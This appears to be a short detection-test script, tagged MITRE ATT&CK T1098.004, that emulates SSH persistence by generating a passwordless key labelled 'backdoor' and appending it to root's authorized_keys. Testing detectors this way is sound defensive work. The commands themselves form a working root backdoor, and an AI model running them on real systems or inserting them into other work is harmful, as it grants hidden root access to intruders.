#!/bin/bash
# Make a throwaway key pair and append its public key to root's authorized_keys.
# technique: T1098.004
# expect: authorized-keys-change
set -eu
ssh-keygen -q -t ed25519 -N '' -C backdoor -f "$TPY_WORK/key"
mkdir -p /root/.ssh
chmod 700 /root/.ssh
cat "$TPY_WORK/key.pub" >> /root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
